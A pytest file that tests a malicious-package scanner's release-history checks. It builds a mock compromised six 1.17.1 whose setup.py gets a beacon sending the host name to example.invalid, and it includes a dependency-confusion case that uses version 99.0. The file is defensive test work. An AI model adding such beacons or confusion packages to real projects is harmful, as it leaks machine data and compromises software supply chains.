"""``snakewarden scan ... --history``: a constructed compromised release of a real project.

The earlier release is the real ``six-1.17.0`` sdist of the benign corpus cache (the test is
skipped without it); the "compromised" 1.17.1 is built here in memory from it, with an inert
install-time beacon (to ``example.invalid``) appended to ``setup.py``. Nothing is installed or
run: both are only read and analysed.
"""

from __future__ import annotations

import io
import json
import os
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from scan_packages import sdist_bytes

Run = Callable[..., tuple[int, str, str]]
SIMPLE_JSON = "application/vnd.pypi.simple.v1+json"
BENIGN = Path(
    os.environ.get("SNAKEWARDEN_CORPUS_CACHE", Path.home() / ".cache/snakewarden-corpus/benign")
)
SIX = BENIGN / "six-1.17.0.tar.gz"
BEACON = (
    b"\n\nimport socket\nimport urllib.request\n\n"
    b"urllib.request.urlopen('https://example.invalid/p?h=' + socket.gethostname())\n"
)


def serve(index: Any, name: str, files: dict[str, bytes]) -> None:
    entries = [
        {
            "filename": filename,
            "url": f"../../files/{filename}",
            "hashes": {"sha256": index.add_file(f"/files/{filename}", data)},
        }
        for filename, data in files.items()
    ]
    doc = {"meta": {"api-version": "1.1"}, "name": name, "files": entries}
    index.routes[f"/simple/{name}/"] = (200, SIMPLE_JSON, json.dumps(doc).encode())


def next_release(original: bytes, old: str, new: str) -> bytes:
    """``original`` re-rooted as version ``new``, with the beacon appended to setup.py."""
    out = io.BytesIO()
    with (
        tarfile.open(fileobj=io.BytesIO(original), mode="r:gz") as src,
        tarfile.open(fileobj=out, mode="w:gz") as dst,
    ):
        for member in src.getmembers():
            if not member.isfile():
                continue
            fh = src.extractfile(member)
            assert fh is not None
            data = fh.read()
            path = member.name.replace(f"-{old}/", f"-{new}/", 1)
            if path.endswith("/PKG-INFO"):
                data = data.replace(f"Version: {old}".encode(), f"Version: {new}".encode())
            if path == f"six-{new}/setup.py":
                data += BEACON
            info = tarfile.TarInfo(path)
            info.size = len(data)
            dst.addfile(info, io.BytesIO(data))
    return out.getvalue()


def results(out: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in out.splitlines()]


@pytest.mark.skipif(not SIX.is_file(), reason="the benign corpus cache (six-1.17.0) is absent")
def test_compromised_release_of_a_real_project_is_malicious_with_history(
    run_cli: Run,
    fake_index: Any,
    tmp_path: Path,
) -> None:
    original = SIX.read_bytes()
    serve(fake_index, "six", {"six-1.17.0.tar.gz": original})
    compromised = tmp_path / "six-1.17.1.tar.gz"
    compromised.write_bytes(next_release(original, "1.17.0", "1.17.1"))
    url = f"{fake_index.url}/simple/"

    code, out, _ = run_cli(str(compromised), "--format", "jsonl", "--jobs", "1")
    alone = results(out)[0]
    # an install-time beacon with the host name is flagged on its own...
    assert alone["verdict"] in ("suspicious", "malicious")

    code, out, _ = run_cli(
        str(compromised), "--history", "--index-url", url, "--format", "jsonl", "--jobs", "1"
    )
    judged = results(out)[0]
    # ...and the history says it is new in this release of a long-lived project
    assert judged["verdict"] == "malicious", judged
    assert judged["score"] >= alone["score"]
    assert code == 1
    new_code = [f for f in judged["findings"] if f["category"] == "history.install-code.new"]
    assert new_code
    assert "setup.py" in new_code[0]["message"]
    assert new_code[0]["file"].endswith("setup.py")
    assert "/files/six-1.17.0.tar.gz" in fake_index.requests


def test_name_version_with_history_against_the_index(
    run_cli: Run,
    fake_index: Any,
) -> None:
    beacon_setup = BEACON + b"from setuptools import setup\nsetup(name='tinyproj')\n"
    serve(
        fake_index,
        "tinyproj",
        {
            "tinyproj-1.0.tar.gz": sdist_bytes("tinyproj", "1.0"),
            "tinyproj-1.1.tar.gz": sdist_bytes("tinyproj", "1.1"),
            "tinyproj-1.2.tar.gz": sdist_bytes("tinyproj", "1.2", beacon_setup),
        },
    )
    url = f"{fake_index.url}/simple/"
    code, out, _ = run_cli("tinyproj==1.2", "--history", "--index-url", url, "--format", "jsonl")
    judged = results(out)[0]
    assert judged["verdict"] == "malicious", judged
    assert any(f["category"] == "history.install-code.new" for f in judged["findings"])
    code, out, _ = run_cli("tinyproj==1.1", "--history", "--index-url", url, "--format", "jsonl")
    assert results(out)[0]["verdict"] == "clean"
    assert code == 0


def test_history_for_a_project_missing_from_the_index_still_scans(
    run_cli: Run,
    fake_index: Any,
    tmp_path: Path,
) -> None:
    local = tmp_path / "lonely-1.0.tar.gz"
    local.write_bytes(sdist_bytes("lonely", "1.0"))
    code, out, _ = run_cli(
        str(local), "--history", "--index-url", f"{fake_index.url}/simple/", "--format", "jsonl"
    )
    judged = results(out)[0]
    assert judged["verdict"] == "clean"
    assert code == 0
    notes = [f for f in judged["findings"] if f["category"] == "history.unavailable"]
    assert notes
    assert "lonely" in notes[0]["message"]


def test_dependency_confusion_from_the_environment(
    run_cli: Run,
    fake_index: Any,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    serve(
        fake_index,
        "acme-internal",
        {
            "acme-internal-0.1.tar.gz": sdist_bytes("acme-internal", "0.1"),
            "acme-internal-99.0.tar.gz": sdist_bytes("acme-internal", "99.0"),
        },
    )
    monkeypatch.setenv("SNAKEWARDEN_PRIVATE_PREFIXES", "acme-")
    code, out, _ = run_cli(
        "acme-internal==99.0",
        "--history",
        "--index-url",
        f"{fake_index.url}/simple/",
        "--format",
        "jsonl",
        "--fail-on",
        "suspicious",
    )
    judged = results(out)[0]
    found = {f["category"] for f in judged["findings"]}
    assert "metadata.dependency-confusion.private-name" in found
    assert "metadata.dependency-confusion.probe-version" in found
    assert judged["verdict"] in ("suspicious", "malicious")
    assert code == 1


def test_history_depth_is_bounded(run_cli: Run) -> None:
    code, _, err = run_cli("x", "--history", "--history-depth", "0")
    assert code == 2
    assert "--history-depth" in err
